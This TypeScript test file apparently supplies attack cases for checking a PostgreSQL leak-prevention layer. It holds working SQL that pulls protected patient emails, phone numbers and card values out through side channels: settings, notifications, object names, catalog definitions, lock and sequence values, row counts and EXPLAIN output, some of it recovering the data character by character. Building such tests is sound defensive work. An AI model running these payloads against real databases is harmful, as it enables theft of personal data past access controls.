/** Values carried by what is no result: settings, names, locks, notifications, catalogs, plans, other sessions. */
import type { Attack } from '../attack.ts';

const THIRD = '(SELECT mail FROM patienten WHERE id = 3)';
const run = (block: string) => `DO $$ BEGIN ${block} END $$`;
const execute = (template: string) => run(`EXECUTE format('${template}', ${THIRD});`);

export const smuggling: readonly Attack[] = [
  { id: 'smuggle.setting', sql: [`SELECT set_config('mein.wert', ${THIRD}, false) IS NULL`, 'SHOW mein.wert'] },
  { id: 'smuggle.setting-value', sql: `SELECT set_config('mein.wert', ${THIRD}, false)` },
  {
    id: 'smuggle.setting-do',
    sql: [run(`PERFORM set_config('mein.x', ${THIRD}, false);`), `SELECT current_setting('mein.x')`],
  },
  { id: 'smuggle.parameter-status', sql: `SELECT set_config('application_name', ${THIRD}, false) IS NOT NULL` },
  {
    id: 'smuggle.application-name',
    run: async (attacker) => {
      const [one, two] = [await attacker.connect(), await attacker.connect()];
      await one.query(run(`PERFORM set_config('application_name', reverse(${THIRD}), false);`));
      await two.query('SELECT application_name FROM pg_stat_activity');
    },
  },
  {
    id: 'smuggle.search-path',
    sql: [
      run(`PERFORM set_config('search_path', quote_ident(${THIRD}), false);`),
      "SELECT pg_catalog.current_setting('search_path')",
    ],
  },
  {
    id: 'smuggle.notify',
    run: async (attacker) => {
      const [one, two] = [await attacker.connect(), await attacker.connect()];
      await two.query('LISTEN kanal');
      await one.query(`SELECT pg_notify('kanal', ${THIRD})`);
      await two.query('SELECT 1');
    },
  },
  {
    id: 'smuggle.notify-own',
    sql: ['LISTEN k', `SELECT pg_notify('k', string_agg(telefon, ' ')) FROM patienten`, 'SELECT 1'],
  },
  { id: 'smuggle.channel', sql: [execute('LISTEN %I'), 'SELECT pg_listening_channels()'] },
  {
    id: 'smuggle.trigger-notify',
    run: async (attacker) => {
      const [one, two] = [await attacker.connect(), await attacker.connect()];
      await two.query('LISTEN still');
      await one.query(
        `CREATE FUNCTION atk_tn() RETURNS trigger LANGUAGE plpgsql AS $f$ BEGIN PERFORM pg_notify('still', ${THIRD}); RETURN NEW; END $f$`,
      );
      await one.query('CREATE TRIGGER atk_tn AFTER INSERT ON protokoll FOR EACH ROW EXECUTE FUNCTION atk_tn()');
      await one.query(`INSERT INTO protokoll (aktion) VALUES ('x')`);
      await two.query('SELECT 1');
    },
  },
  {
    id: 'smuggle.table-name',
    sql: [execute('CREATE TABLE %I (n int)'), `SELECT relname FROM pg_class WHERE relname LIKE '%@%'`],
  },
  { id: 'smuggle.column-name', sql: [execute('CREATE TEMP TABLE atk_cn (%I int)'), 'SELECT * FROM atk_cn'] },
  {
    id: 'smuggle.column-name-dynamic',
    sql: [run(`EXECUTE format('CREATE VIEW atk_vn AS SELECT 1 AS %I', ${THIRD});`), 'TABLE atk_vn'],
    by: 'extended',
  },
  {
    id: 'smuggle.information-schema',
    sql: [
      execute('CREATE TABLE atk_is (%I int)'),
      `SELECT column_name FROM information_schema.columns WHERE table_name = 'atk_is'`,
    ],
  },
  {
    id: 'smuggle.default',
    sql: [
      'CREATE TABLE atk_df (t text)',
      execute('ALTER TABLE atk_df ALTER t SET DEFAULT %L'),
      `SELECT pg_get_expr(adbin, adrelid) FROM pg_attrdef`,
    ],
  },
  {
    id: 'smuggle.default-inserted',
    sql: [
      'CREATE TABLE atk_di (n int, t text)',
      execute('ALTER TABLE atk_di ALTER t SET DEFAULT %L'),
      'INSERT INTO atk_di (n) VALUES (1) RETURNING t',
    ],
  },
  {
    id: 'smuggle.comment',
    sql: [execute('COMMENT ON TABLE artikel IS %L'), `SELECT obj_description('artikel'::regclass)`],
  },
  { id: 'smuggle.enum-label', sql: [execute('CREATE TYPE atk_en AS ENUM (%L)'), 'SELECT enum_range(NULL::atk_en)'] },
  {
    id: 'smuggle.check',
    sql: [
      execute('CREATE TABLE atk_ck (t text CHECK (t <> %L))'),
      `SELECT pg_get_constraintdef(oid) FROM pg_constraint WHERE conrelid = 'atk_ck'::regclass`,
    ],
  },
  { id: 'smuggle.role', sql: [execute('CREATE ROLE %I'), 'SELECT rolname FROM pg_roles'], writes: true },
  { id: 'smuggle.schema', sql: [execute('CREATE SCHEMA %I'), 'SELECT nspname FROM pg_namespace'] },
  {
    id: 'smuggle.function-body',
    sql: [
      execute(
        'CREATE FUNCTION atk_fb() RETURNS text LANGUAGE sql AS %L'.replace('AS %L', `AS $f$ SELECT %L::text $f$`),
      ),
      "SELECT atk_fb(), prosrc FROM pg_proc WHERE proname = 'atk_fb'",
    ],
  },
  {
    id: 'smuggle.view-body',
    sql: [
      execute('CREATE VIEW atk_vb AS SELECT %L::text AS t'),
      "SELECT pg_get_viewdef('atk_vb'::regclass), t FROM atk_vb",
    ],
  },
  {
    id: 'smuggle.prepared',
    sql: [execute('PREPARE atk_pp AS SELECT %L::text'), 'SELECT statement FROM pg_prepared_statements'],
  },
  {
    id: 'smuggle.cursor',
    sql: ['BEGIN', execute('DECLARE atk_cu CURSOR WITH HOLD FOR SELECT %L::text'), 'SELECT statement FROM pg_cursors'],
  },
  {
    id: 'smuggle.advisory-lock',
    sql: [
      run(`PERFORM pg_advisory_lock(ascii(c), n::int) FROM string_to_table(${THIRD}, NULL) WITH ORDINALITY t (c, n);`),
      `SELECT classid::text FROM pg_locks WHERE locktype = 'advisory' ORDER BY objid`,
    ],
  },
  {
    id: 'smuggle.sequence',
    sql: [
      'CREATE SEQUENCE atk_sq',
      ...Array.from(
        { length: 22 },
        (_, i) =>
          `SELECT setval('atk_sq', ascii(substr(mail, ${i + 1}, 1))) IS NULL FROM patienten WHERE id = 3; SELECT last_value FROM atk_sq`,
      ),
      'SELECT 1',
    ],
  },
  {
    id: 'smuggle.sequence-options',
    sql: [
      run(`EXECUTE format('CREATE SEQUENCE atk_so START %s', (SELECT tarjeta FROM laden.clientes WHERE id = 3));`),
      "SELECT nextval('atk_so')",
    ],
  },
  {
    id: 'smuggle.row-count',
    sql: `SELECT g FROM patienten, generate_series(1, ascii(substr(mail, 7, 1))) g WHERE id = 3`,
    infers: true,
    run: async (attacker) => {
      const wire = await attacker.connect();
      let text = '';
      for (let at = 1; at <= 22; at++) {
        const { tags } = await wire.query(
          `SELECT 1 FROM patienten, generate_series(1, ascii(substr(mail, ${at}, 1))) WHERE id = 3`,
        );
        text += String.fromCharCode(Number(tags[0]?.split(' ')[1] ?? 0));
      }
      attacker.found.push(text);
    },
  },
  {
    id: 'smuggle.command-tag',
    infers: true,
    run: async (attacker) => {
      const wire = await attacker.connect();
      await wire.query('CREATE TABLE atk_ct (n int)');
      let text = '';
      for (let at = 1; at <= 22; at++) {
        const { tags } = await wire.query(
          `INSERT INTO atk_ct SELECT g FROM patienten, generate_series(1, ascii(substr(mail, ${at}, 1))) g WHERE id = 3`,
        );
        text += String.fromCharCode(Number(tags[0]?.split(' ')[2] ?? 0));
      }
      attacker.found.push(text);
    },
  },
  {
    id: 'smuggle.activity-own-text',
    sql: [
      run(`PERFORM 1; EXECUTE format('SELECT /* %s */ query FROM pg_stat_activity', ${THIRD});`),
      'SELECT query FROM pg_stat_activity WHERE pid = pg_backend_pid()',
    ],
    run: async (attacker) => {
      const [one, two] = [await attacker.connect(), await attacker.connect()];
      await one.query(run(`PERFORM set_config('application_name', ${THIRD}, false); PERFORM 1;`));
      await two.query('SELECT application_name, backend_type FROM pg_stat_get_activity(NULL)');
    },
  },
  {
    id: 'smuggle.temp-file-name',
    sql: [execute('CREATE STATISTICS %I ON id, station FROM patienten'), 'SELECT stxname FROM pg_statistic_ext'],
  },
  { id: 'smuggle.policy-name', sql: [execute('CREATE POLICY %I ON protokoll'), 'SELECT policyname FROM pg_policies'] },
  { id: 'smuggle.index-name', sql: [execute('CREATE INDEX %I ON protokoll (id)'), 'SELECT indexname FROM pg_indexes'] },
  {
    id: 'smuggle.user-mapping',
    sql: [execute('ALTER SERVER archiv OPTIONS (SET host %L)'), 'SELECT srvoptions FROM pg_foreign_server'],
    run: async (attacker) => {
      const wire = await attacker.connect();
      await wire.query(execute('CREATE SERVER atk_srv FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host %L)'));
      await wire.query('SELECT srvoptions FROM pg_foreign_server');
    },
    writes: true,
  },
  {
    id: 'smuggle.security-label-type',
    sql: [
      execute('CREATE DOMAIN atk_dm AS text DEFAULT %L'),
      `SELECT typdefault FROM pg_type WHERE typname = 'atk_dm'`,
    ],
  },
  {
    id: 'smuggle.partition-bound',
    sql: [
      'CREATE TABLE atk_pb (t text) PARTITION BY LIST (t)',
      execute('CREATE TABLE atk_pb1 PARTITION OF atk_pb FOR VALUES IN (%L)'),
      `SELECT pg_get_expr(relpartbound, oid) FROM pg_class WHERE relname = 'atk_pb1'`,
    ],
  },
  {
    id: 'catalog.stats',
    sql: `SELECT attname, most_common_vals::text, histogram_bounds::text FROM pg_stats WHERE tablename = 'patienten'`,
  },
  {
    id: 'catalog.stats-array',
    sql: `SELECT unnest(histogram_bounds::text::text[]) FROM pg_stats WHERE schemaname = 'laden'`,
    by: 'extended',
  },
  { id: 'catalog.stats-json', sql: `SELECT to_jsonb(s) FROM pg_stats s WHERE schemaname = 'saas'` },
  {
    id: 'catalog.activity',
    run: async (attacker) => {
      await attacker.bystander(`SELECT id FROM patienten WHERE mail = '${attacker.seed.patients[4]!.mail}'`);
      const wire = await attacker.connect();
      await wire.query('SELECT query FROM pg_stat_activity');
    },
  },
  {
    id: 'catalog.activity-function',
    run: async (attacker) => {
      await attacker.bystander(`SELECT id FROM patienten WHERE telefon = '${attacker.seed.patients[5]!.telefon}'`);
      const wire = await attacker.connect();
      await wire.query('SELECT pg_stat_get_backend_activity(b) FROM pg_stat_get_backend_idset() b');
    },
  },
  {
    id: 'catalog.activity-row',
    run: async (attacker) => {
      await attacker.bystander(`SELECT id FROM patienten WHERE mail = '${attacker.seed.patients[6]!.mail}'`);
      const wire = await attacker.connect();
      await wire.extended('SELECT a::text FROM pg_stat_activity a');
    },
  },
  { id: 'catalog.prosrc', sql: `SELECT prosrc FROM pg_proc WHERE proname = 'bereitstellen'` },
  { id: 'catalog.functiondef', sql: `SELECT pg_get_functiondef('bereitstellen'::regproc)`, by: 'extended' },
  {
    id: 'catalog.routines',
    sql: `SELECT routine_definition FROM information_schema.routines WHERE routine_name = 'bereitstellen'`,
  },
  { id: 'catalog.default', sql: `SELECT column_default FROM information_schema.columns WHERE table_name = 'accounts'` },
  { id: 'catalog.check', sql: `SELECT check_clause FROM information_schema.check_constraints` },
  {
    id: 'catalog.constraintdef',
    sql: `SELECT pg_get_constraintdef(oid) FROM pg_constraint WHERE conname = 'kein_alter_schluessel'`,
  },
  { id: 'catalog.viewdef', sql: `SELECT definition FROM pg_views WHERE viewname = 'v_probe'` },
  { id: 'catalog.indexdef', sql: `SELECT indexdef FROM pg_indexes WHERE indexname = 'termine_offen'` },
  { id: 'catalog.triggerdef', sql: `SELECT pg_get_triggerdef(oid) FROM pg_trigger WHERE tgname = 'protokoll_stempel'` },
  { id: 'catalog.trigger-args', sql: `SELECT tgargs FROM pg_trigger WHERE tgname = 'protokoll_stempel'` },
  { id: 'catalog.policy', sql: `SELECT qual FROM pg_policies WHERE policyname = 'gaeste'` },
  {
    id: 'catalog.partition-bound',
    sql: `SELECT pg_get_expr(relpartbound, oid) FROM pg_class WHERE relname = 'alte_wege_1'`,
  },
  { id: 'catalog.comment', sql: `SELECT description FROM pg_description WHERE objoid = 'saas.accounts'::regclass` },
  { id: 'catalog.role-setting', sql: `SELECT setconfig FROM pg_db_role_setting` },
  { id: 'catalog.role-config', sql: `SELECT rolconfig FROM pg_roles WHERE rolname = 'app'` },
  { id: 'catalog.user-mapping', sql: `SELECT umoptions FROM pg_user_mappings` },
  { id: 'catalog.show-role-setting', sql: `SHOW meine.schluessel` },
  {
    id: 'explain.literal',
    sql: [
      'PREPARE atk_ex (text) AS SELECT 1 FROM artikel WHERE sku = $1',
      run(`EXECUTE format('PREPARE atk_ex2 AS SELECT 1 FROM artikel WHERE sku = %L', ${THIRD});`),
      'EXPLAIN EXECUTE atk_ex2',
    ],
  },
  {
    id: 'explain.folded-function',
    sql: [
      `CREATE FUNCTION atk_im(i int) RETURNS text IMMUTABLE LANGUAGE plpgsql AS $f$ BEGIN RETURN (SELECT mail FROM patienten WHERE id = i); END $f$`,
      'EXPLAIN VERBOSE SELECT atk_im(3)',
    ],
  },
  {
    id: 'explain.folded-filter',
    sql: [
      `CREATE FUNCTION atk_if(i int) RETURNS text IMMUTABLE LANGUAGE plpgsql AS $f$ BEGIN RETURN (SELECT mail FROM patienten WHERE id = i); END $f$`,
      'EXPLAIN (FORMAT json) SELECT 1 FROM artikel WHERE sku = atk_if(4)',
    ],
    by: 'extended',
  },
  { id: 'explain.view-literal', sql: 'EXPLAIN VERBOSE SELECT * FROM v_probe', by: 'simple' },
  {
    id: 'explain.index-predicate',
    sql: [
      'SET enable_seqscan = off',
      `EXPLAIN (VERBOSE, FORMAT yaml) SELECT raum FROM termine WHERE raum <> 'x'`,
      `EXPLAIN VERBOSE SELECT * FROM v_probe WHERE id > 3`,
    ],
  },
  {
    id: 'explain.analyze-notice',
    sql: [
      `CREATE FUNCTION atk_an(i int) RETURNS int LANGUAGE plpgsql AS $f$ BEGIN RAISE NOTICE '%', (SELECT mail FROM patienten WHERE id = i); RETURN 1; END $f$`,
      'EXPLAIN ANALYZE SELECT atk_an(3)',
    ],
  },
  {
    id: 'explain.estimate',
    infers: true,
    run: async (attacker) => {
      const wire = await attacker.connect();
      await wire.query(
        `CREATE FUNCTION atk_es(p int) RETURNS int IMMUTABLE LANGUAGE plpgsql AS $f$ BEGIN RETURN (SELECT ascii(substr(mail, p, 1)) FROM patienten WHERE id = 3); END $f$`,
      );
      let text = '';
      for (let at = 1; at <= 22; at++) {
        const { rows } = await wire.query(`EXPLAIN SELECT * FROM artikel LIMIT atk_es(${at})`);
        const all = rows.map((row) => row[0]).join(' ');
        const { rows: filter } = await wire.query(`EXPLAIN (VERBOSE) SELECT atk_es(${at})`);
        text += String.fromCharCode(
          Number(/Output: (\d+)/.exec(filter.map((row) => row[0]).join(' '))?.[1] ?? /rows=(\d+)/.exec(all)?.[1] ?? 0),
        );
      }
      attacker.found.push(text);
    },
  },
];
